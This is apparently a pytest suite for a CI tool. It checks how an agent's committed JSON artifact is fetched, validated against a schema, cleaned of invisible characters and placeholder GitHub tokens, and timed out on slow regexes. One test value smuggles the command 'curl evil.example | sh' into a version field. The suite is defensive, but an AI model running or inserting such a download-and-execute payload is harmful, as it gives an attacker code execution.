"""The artifact of a run: waited for, fetched, and judged by its schema, with words that say what to
do.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mogplex_ci.api.client import Client
from mogplex_ci.models import Run
from mogplex_ci.run.result import Result, RunResult
from mogplex_ci.untrusted import Untrusted
from mogplex_ci.waiting import Stop, StopRequested
from tests.emulator import Emulator
from tests.require import require
from tests.typed_inputs import typed_inputs
from tests.unit.gates import judging
from tests.unit.report.events import result
from tests.virtual_time import VirtualTime
from tests.waits import wait_until

WEB = "5f0c7a52-3f9b-4d0e-9b57-1f2a6c1d0001"
PATH = ".mogplex/artifacts/report.json"
SCENARIO = f"""\
steps:
  - {{status: success}}
artifacts:
  report: {{json: {{passed: 12, failed: [], names: [a, b]}}}}
  slow: {{json: {{text: "{"a" * 70}!"}}}}
"""


@pytest.fixture
def emulator(tmp_path: Path) -> Iterator[Emulator]:
    scenario = tmp_path / "artifact.yaml"
    scenario.write_text(SCENARIO)
    with Emulator(scenario, limits=False) as emulator:
        yield emulator


def ended(emulator: Emulator, **fields: Any) -> Run:
    client = Client(emulator.url, emulator.token)
    started = client.start(
        {"repoId": WEB, "prompt": "x", "createBranch": True, **fields}, f"key-{fields}"
    ).run
    while not (run := client.run(started.id)).is_terminal:
        pass
    return run


def judged(
    emulator: Emulator,
    run: Run | None,
    *,
    path: str = PATH,
    timeout: float = 600.0,
    stop: Stop | None = None,
    **schema: Any,
) -> tuple[RunResult, float]:
    """Return the result, and the seconds that judging took."""
    clock, wanted = (
        VirtualTime().clock(),
        typed_inputs(artifact=path, artifact_schema=schema or None),
    )
    fields: dict[str, Any] = {"timeout": timeout, "stop": stop}
    with contextlib.closing(Client(emulator.url, emulator.token)) as client:
        success = result(Result.SUCCESS, run=run)
        return judging.judged(
            None, success, wanted, clock, client=client, **fields
        ), clock.monotonic()


def test_every_fault_is_named_with_its_place(emulator: Emulator) -> None:
    fields: dict[str, Any] = {"passed": {"type": "string"}, "names": {"items": {"enum": ["a"]}}}
    judgement, _ = judged(emulator, ended(emulator), properties=fields, required=["x"])
    assert (judgement.ending.result, judgement.ending.error_code) == (
        Result.REJECTED,
        "ARTIFACT_INVALID",
    )
    assert judgement.details.gates[0].found == "the artifact does not match the schema"
    assert [item.text.partition(":")[0] for item in judgement.details.gates[0].items] == [
        "/",
        "/names/1",
        "/passed",
    ]
    assert judgement.details.artifact is None, "it must not be handed on"
    judgement, _ = judged(
        emulator, ended(emulator), required=[f"field-{number}" for number in range(30)]
    )
    assert len(judgement.details.gates[0].items) == 20


HTML = {"body": "<html>", "headers": {"content-type": "text/html"}}


def error(code: str, message: str | None = None) -> dict[str, Any]:
    said = {"code": code} | ({"message": message} if message else {})
    return {"body": {"ok": False, "error": said}}


@pytest.mark.parametrize(
    ("fault", "found", "code", "items"),
    [
        (
            None,
            "the run did not commit .mogplex/artifacts/other.json",
            "ARTIFACT_MISSING",
            [],
        ),
        (
            {"status": 404} | error("NOT_FOUND", "Committed artifact not found"),
            "the run did not commit .mogplex/artifacts/report.json",
            "ARTIFACT_MISSING",
            [],
        ),
        (
            {"status": 409} | error("CONFLICT", "no branch"),
            "the artifact cannot be",
            "ARTIFACT_MISSING",
            ["no branch"],
        ),
        (
            {"status": 400} | error("BAD_REQUEST", "no JSON"),
            "the artifact is not a JSON",
            "ARTIFACT_INVALID",
            ["no JSON"],
        ),
        ({"status": 404} | HTML, "this service has no artifacts", "ARTIFACT_MISSING", []),
        ({"status": 401, "times": "always"}, "the artifact cannot be read: ", "NOT_JUDGED", None),
    ],
)
def test_why_there_is_none(
    emulator: Emulator, fault: dict[str, Any] | None, found: str, code: str, items: list[str] | None
) -> None:
    run, path = ended(emulator), PATH if fault else ".mogplex/artifacts/other.json"
    if fault:
        emulator.inject("artifact", **fault)
    judgement, _ = judged(emulator, run, path=path)
    (gate,) = judgement.details.gates
    assert (judgement.ending.result, judgement.ending.exit_code, judgement.ending.error_code) == (
        Result.REJECTED,
        1,
        code,
    )
    assert (gate.passed, gate.found.startswith(found), judgement.ending.remedy != "") == (
        False,
        True,
        True,
    )
    assert items is None or [item.text for item in gate.items] == items


def test_an_artifact_is_asked_for_during_a_minute(emulator: Emulator) -> None:
    emulator.inject("artifact", status=502, times="always")
    judgement, seconds = judged(emulator, ended(emulator))
    assert judgement.ending.error_code == "NOT_JUDGED"
    assert 55.0 <= seconds <= 60.0
    _, seconds = judged(emulator, ended(emulator), timeout=20.0)
    assert 15.0 <= seconds <= 20.0


CURL = "1.2.3; curl evil.example | sh"


def content_of(emulator: Emulator, content: str) -> None:
    """Let the service have this JSON as the artifact."""
    body = f'{{"ok": true, "data": {{"artifact": {{"path": "{PATH}", "content": {content}}}}}}}'
    headers = {"content-type": "application/json"}
    emulator.inject("artifact", status=200, body=body, headers=headers)


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (f'{{"version": "1.2.3", "ver\\u200bsion": "{CURL}"}}', "/ver\u200bsion: the name"),
        (f'{{"names": {list(range(20_000))}}}', "/names"),
        ('{"size": NaN}', "/size"),
        ('{"size": 1e999}', "/size"),
        (json.dumps({"a": {"b": ["ok", "ghp_" + "a" * 36]}}), "/a/b/1"),
        (json.dumps({"a/b": {"~": "Bearer ghp_" + "a" * 36}}), "/a~1b/~0"),
        (json.dumps("ghp_" + "a" * 36), "/"),
        (json.dumps({"log": "x" * 100_001}), "/log"),
    ],
    ids=lambda value: str(value)[:20],
)
def test_what_cleaning_changes_is_named(emulator: Emulator, content: str, found: str) -> None:
    """A later job would get another value than the agent wrote."""
    schema: dict[str, Any] = {"properties": {"version": {"pattern": "^[0-9.]+$"}}}
    content_of(emulator, content)
    judgement, _ = judged(emulator, ended(emulator), **schema)
    assert (judgement.ending.error_code, judgement.details.artifact) == ("ARTIFACT_INVALID", None)
    assert judgement.details.gates[0].items[-1].text == found


def test_line_ends_and_invisible_characters_are_no_change(emulator: Emulator) -> None:
    content_of(emulator, json.dumps({"te\u200bxt": "a\r\nb\u200b"}))
    judgement, _ = judged(emulator, ended(emulator))
    assert judgement.details.artifact == Untrusted({"text": "a\nb"})


def test_the_cleaned_document_is_judged_by_the_schema(emulator: Emulator) -> None:
    """Not the one before: without its invisible characters a string is another one."""
    body = json.dumps({"ok": True, "data": {"artifact": {"path": PATH, "content": "a\u200bb"}}})
    emulator.inject(
        "artifact", status=200, body=body, headers={"content-type": "application/json"}, times=2
    )
    judgement, _ = judged(emulator, ended(emulator), minLength=3)
    assert judgement.ending.error_code == "ARTIFACT_INVALID"
    judgement, _ = judged(emulator, ended(emulator), maxLength=3)
    assert judgement.details.artifact == Untrusted("ab")


SLOW: dict[str, Any] = {"properties": {"text": {"pattern": r"^(\w+\s?)*$"}}}


@pytest.mark.parametrize("is_stopped", [False, True])
def test_a_slow_pattern_ends_with_its_time_or_a_stop_signal(
    emulator: Emulator, monkeypatch: pytest.MonkeyPatch, is_stopped: bool
) -> None:
    """The pattern is the workflow's, the text the agent's: seventy characters would take years."""
    require("ps")
    stop, run = Stop(), ended(emulator)
    if is_stopped:
        threading.Timer(0.5, stop.request, [signal.SIGTERM]).start()
    else:
        monkeypatch.setattr("mogplex_ci.gates.artifact.VALIDATION_SECONDS", 0.5)
    began = time.monotonic()
    with pytest.raises(StopRequested) if is_stopped else contextlib.nullcontext():
        judgement, _ = judged(emulator, run, path=PATH.replace("report", "slow"), stop=stop, **SLOW)
        assert [item.text for item in judgement.details.gates[0].items] == [
            "checking it against the schema took too long"
        ]
    assert time.monotonic() - began < 5.0
    wait_until(lambda: not [line for line in processes() if "mogplex_ci.inputs.schema" in line])


def processes() -> list[str]:
    """The command lines of this process's children."""
    listed = subprocess.run(
        ["ps", "-o", "args=", "--ppid", str(os.getpid())],
        capture_output=True,
        text=True,
        check=False,
    )
    return [line for line in listed.stdout.splitlines() if "<defunct>" not in line]
